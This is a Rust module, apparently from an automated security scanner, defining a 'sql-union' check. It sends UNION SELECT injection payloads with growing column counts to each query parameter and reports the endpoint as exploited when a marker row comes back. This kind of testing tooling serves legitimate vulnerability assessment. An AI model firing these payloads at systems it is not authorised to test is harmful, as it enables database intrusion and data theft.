//! Another query's rows beside the requested ones.

use crate::door::{GuideDoor, ShutBy};
use crate::oracle;
use crate::payloads::sql::{MAX_UNION_COLUMNS, UNION_COLUMN, UNION_PROOF};
use crate::probing::{Attack, AttackError, Probing};
use crate::verdict::{Attempts, Verdict};

pub(super) const ATTACK: Attack = Attack {
    name: "sql-union",
    door: GuideDoor::SqlInjection,
    shut_by: ShutBy::Code,
    thought: "Can I append a SELECT of my own and read other tables?",
    needs: &[],
    run: |probing| Box::pin(run(probing)),
};

async fn run(p: Probing<'_>) -> Result<Verdict, AttackError> {
    let mut attempts = Attempts::default();
    for (endpoint, name) in p.surface.queries() {
        for columns in 1..=MAX_UNION_COLUMNS {
            let payload = format!("zz' UNION SELECT {} -- ", [UNION_COLUMN].repeat(columns).join(","));
            let (answer, seen) = p.send(&p.query(endpoint, name, &payload)).await?;
            if oracle::contains(&answer, UNION_PROOF) {
                let summary = format!("{name} returns a row that was selected by me ({columns} columns)");
                return Ok(Verdict::exploited(summary, vec![seen]));
            }
            attempts.blocked(seen);
        }
    }
    Ok(attempts.verdict("no selected row came back", "no operation takes text in its query"))
}
